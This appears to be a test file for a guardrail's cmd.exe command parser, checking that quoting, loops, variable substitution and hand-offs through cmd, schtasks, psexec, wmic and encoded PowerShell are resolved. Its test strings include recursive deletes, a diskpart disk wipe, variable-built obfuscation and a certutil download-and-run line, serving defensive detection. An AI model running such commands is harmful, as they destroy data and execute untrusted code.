r"""cmd.exe as `cmd /?`, `for /?`, `if /?`, `set /?` and SS64 say it reads, worked out by hand.

Such lines were also run by Wine's cmd.exe, with programs that print what they were called with.
"""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.commands.budget import BudgetExceeded
from guardrails.commands.readers import read
from guardrails.interface import Shell


def ran(text: str) -> list[list[str | None]]:
    """The argv of everything a text runs, in order; None for a word that only the run will tell."""
    return [[word.text for word in command.argv] for command in read(text, Shell.CMD).commands]


WORDS = [
    ("aa x y", [["aa", "x", "y"]]),
    ('aa "x y" z', [["aa", "x y", "z"]]),
    ("aa x^&y & bb", [["aa", "x&y"], ["bb"]]),
    ("a^a x", [["aa", "x"]]),
    ("aa^ x", [["aa", "x"]]),
    ('aa "x^y" ^"c d^"', [["aa", "x^y", "c d"]]),
    ('aa "x & y" & bb', [["aa", "x & y"], ["bb"]]),
    ('aa "a""b" c', [["aa", 'a"b', "c"]]),
    ('aa a\\"b c', [["aa", 'a"b', "c"]]),
    ('aa "C:\\a\\" b', [["aa", "C:\\a\\", "b"]]),
    ("aa C:\\a /s/q", [["aa", "C:\\a", "/s/q"]]),
    ("del C:\\a /s/q", [["del", "C:\\a", "/s", "/q"]]),
    ("rd/s/q C:\\a", [["rd", "/s", "/q", "C:\\a"]]),
    ("del;a,b=c", [["del", "a", "b", "c"]]),
    ("aa a=b c,d", [["aa", "a=b", "c,d"]]),
    ("sc config x start= disabled", [["sc", "config", "x", "start=", "disabled"]]),
    ("C:\\t\\AA.EXE x", [["aa", "x"]]),
    ('"C:\\t u\\aa.exe" x', [["aa", "x"]]),
    ("@aa x", [["aa", "x"]]),
    ("aa (x) y", [["aa", "(x)", "y"]]),
    ("aa x ^\ny", [["aa", "x", "y"]]),
    ("aa 1>o 2>&1", [["aa"]]),
    (">o aa 1", [["aa", "1"]]),
    ("aa 100%% y", [["aa", "100%", "y"]]),
    ("cd.. & aa", [["cd", "."], ["aa"]]),
]
CHAINS = [
    ("aa & bb && cc || dd", [["aa"], ["bb"], ["cc"], ["dd"]]),
    ("aa|bb", [["aa"], ["bb"]]),
    ("(aa 1 & bb 2) & cc", [["aa", "1"], ["bb", "2"], ["cc"]]),
    ("(aa 1\nbb 2\n)", [["aa", "1"], ["bb", "2"]]),
    ("rem aa\n:: bb\n:l\ncc", [["cc"]]),
    ("if exist x (aa) else (bb)", [["aa"], ["bb"]]),
    ('if not "%1"=="x" aa & bb', [["aa"], ["bb"]]),
    ("if /i %a% equ 3 aa", [["aa"]]),
    ("if a == b aa", [["aa"]]),
    ("if errorlevel 1 (aa) else if exist y bb", [["aa"], ["bb"]]),
    ("if defined x aa 1", [["aa", "1"]]),
    ("aa&exit /b\nbb", [["aa"], ["exit", "/b"]]),
    ("goto x\nbb\n:x\naa", [["goto", "x"], ["aa"]]),
    ("for %i in (a b,c) do aa %i", [["aa", "a"], ["aa", "b"], ["aa", "c"]]),
    ("for %%i in (a) do (aa %%i & bb %%~i)", [["aa", "a"], ["bb", "a"]]),
    ("for /l %i in (1,1,2) do aa %i", [["aa", "1"], ["aa", "2"]]),
    ("for /r C:\\ %f in (*.doc) do del %f", [["del", "C:\\\\*.doc"]]),
    ('for /d %d in (C:\\u\\*) do rd /s /q "%d"', [["rd", "/s", "/q", "C:\\u\\*"]]),
    ("for /f %i in ('echo a b') do aa %i", [["echo", "a", "b"], ["aa", "a"]]),
    ("for /f \"tokens=*\" %i in ('echo a b') do aa %i", [["echo", "a", "b"], ["aa", "a", "b"]]),
    ('for /f "tokens=2" %i in ("a b c") do aa %i', [["aa", "b"]]),
    ('for /f "tokens=1,2 delims=-" %i in ("a-b-c") do aa %j %i', [["aa", "b", "a"]]),
    ("for /f %i in (list.txt) do aa %i", [["aa", None]]),
    ("for %a in (x) do for %b in (y) do aa %a %b", [["aa", "x", "y"]]),
    ("call :f q w\nexit /b\n:f\naa %2 %1\nexit /b", [["aa", "w", "q"], ["exit", "/b"]]),
]
VARIABLES = [
    ("set a=d&set b=el\n%a%%b% x", [["set", "a", "d"], ["set", "b", "el"], ["del", "x"]]),
    ('set "x=aa y"\n%x%', [["set", "x=aa y"], ["aa", "y"]]),
    ("set x=aa ^& bb\n%x%", [["set", "x", "aa", "&", "bb"], ["aa"], ["bb"]]),
    ("set v=hello\naa %v:~0,2%%v:~-1% %v:~1,-1%", [["set", "v", "hello"], ["aa", "heo", "ell"]]),
    ("set v=hello\naa %v:l=L% %v:*l=X%", [["set", "v", "hello"], ["aa", "heLLo", "Xlo"]]),
    ("%ComSpec:~-7,3% /c aa", [["cmd", "/c", "aa"], ["aa"]]),
    ("set x=d&call aa %x%", [["set", "x", "d"], ["call", "aa", "d"], ["aa", "d"]]),
    (
        "setlocal enabledelayedexpansion\nset x=d\naa !x!",
        [["setlocal", "enabledelayedexpansion"], ["set", "x", "d"], ["aa", "d"]],
    ),
    ("aa P4ss!", [["aa", "P4ss!"]]),
    ("aa %unheard%", [["aa", None]]),
    ("aa %TEMP%\\x", [["aa", "%TEMP%\\x"]]),
    ("set /p x=name?\naa %x%", [["set", "/p", "x", "name?"], ["aa", None]]),
]
HANDED = [
    "cmd /c aa x",
    'cmd.exe /d /c "aa x"',
    "cmd/c aa x",
    "%comspec% /c aa x",
    'cmd /v:on /c "set q=x&&aa !q!"',
    "echo aa x| cmd",
    'start "" /b aa x',
    "start /wait aa x",
    "call aa x",
    'cmd /c "cmd /c "aa x""',
    'forfiles /c "cmd /c aa x"',
    'schtasks /create /tn t /tr "aa x" /sc daily',
    'schtasks /create /tn t /tr "cmd /c \\"aa x\\""',
    'runas /user:a "aa x"',
    "psexec \\\\h -u a -p b cmd /c aa x",
    'wmic process call create "aa x"',
    "at 10:00 aa x",
    "winrs -r:h aa x",
    'sc create s binpath= "aa x"',
    'powershell -c "cmd /c aa x"',
    "echo aa x> b.bat & b.bat",
    "(echo aa x)> b.bat & call b.bat",
    "for /f %i in ('aa x') do echo %i",
    "pushd C:\\ & aa x",
    "powershell -e " + base64.b64encode("aa x".encode("utf-16-le")).decode(),
]


@pytest.mark.parametrize(("text", "expected"), WORDS + CHAINS + VARIABLES)
def test_a_line_runs_what_the_documentation_says(text: str, expected: list[list[str | None]]) -> None:
    """Words, chains, loops and variables are read as cmd.exe reads them."""
    assert ran(text) == expected


@pytest.mark.parametrize("text", HANDED)
def test_what_hands_code_on_is_seen_through(text: str) -> None:
    """Shells, tasks, services, loops and files that the script wrote lead to the command that runs in the end."""
    assert ["aa", "x"] in ran(text)


def test_what_is_piped_is_read_by_the_next() -> None:
    """The output of a block is the input of what stands behind its pipe."""
    *_, last = read("(echo select disk 0 & echo clean) | diskpart", Shell.CMD).commands
    assert [command.name for command in last.stdin] == ["echo", "echo"]


def test_a_downloaded_file_that_runs_is_known_to_nobody() -> None:
    """What came from the network and is started is unresolvable, and tells where it came from."""
    *_, last = read("certutil -urlcache -f http://x/a.exe a.exe & start a.exe", Shell.CMD).commands
    assert last.argv[0].text is None
    assert [command.name for command in last.argv[0].commands] == ["certutil"]


def test_spans_count_characters_of_the_text_given() -> None:
    """Each command stands where it was written."""
    text = "aa é & bb ^\n c > o & dd"
    spans = [command.span for command in read(text, Shell.CMD).commands]
    assert [text[slice(*span)].strip() for span in spans] == ["aa é", "bb ^\n c > o", "dd"]


FRAGMENTS = (
    'aa "x y" " ^ & && | || ( ) for %i %%i in do if else == exist not set x= /a /p %x% %x:~1,2% !x!'
    " call :l goto > >> < 2>&1 ^& , ; = @"
    " rem cmd /c echo set"
)
PIECES = st.lists(st.sampled_from([*FRAGMENTS.split(), "\n"]), max_size=16).map(" ".join)


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from('ae "^&|()<>%!=:~,;@/\\1\n\ré\ud800'), max_size=50) | PIECES)
def test_any_text_is_read(text: str) -> None:
    """Nothing crashes the reader, and spans lie within the text."""
    try:
        commands = read(text, Shell.CMD).commands
    except BudgetExceeded:
        return
    assert all(0 <= command.span[0] <= command.span[1] <= len(text) for command in commands)
